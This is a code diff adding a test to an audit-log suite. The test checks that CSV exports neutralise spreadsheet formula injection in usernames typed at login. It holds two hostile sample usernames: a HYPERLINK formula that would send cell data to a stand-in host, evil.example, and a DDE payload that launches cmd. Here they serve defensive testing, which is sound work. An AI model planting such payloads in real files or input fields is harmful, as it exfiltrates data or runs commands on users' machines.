@@ -1,4 +1,5 @@
 import ExcelJS from 'exceljs';
+import Papa from 'papaparse';
 import {
   bearer,
   createTestApp,
@@ -135,6 +136,29 @@ describe('audit log', () => {
       .set(bearer(auditor))
       .expect(200);
     expect(exports.body.total).toBeGreaterThanOrEqual(2);
+  });
+
+  it('exports names typed at the login as inert text: no cell of the csv starts a formula', async () => {
+    // anyone may type these as a user name; the failed login is audited with the name as typed
+    const names = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /c calc'!A0"];
+    for (const username of names) {
+      await t.http().post('/api/auth/login').send({ username, password: 'wrong-password' }).expect(401);
+    }
+    for (const username of names) {
+      const csv = await t
+        .http()
+        .get('/api/audit-logs/export')
+        .query({ format: 'csv', action: 'auth.login_failed', actor: username })
+        .set(bearer(auditor))
+        .expect(200);
+      const { data } = Papa.parse<string[]>(csv.text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
+      const column = data[0].indexOf('操作人 Actor');
+      expect(data.length).toBe(2);
+      // the cell holds the name (in lower case, as logins are), prefixed with a single quote so that
+      // a spreadsheet shows it as text
+      expect(data[1][column]).toBe(`'${username.toLowerCase()}`);
+      for (const row of data) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
   });
 
   it('gives the audit administrator the audit log and nothing else', async () => {
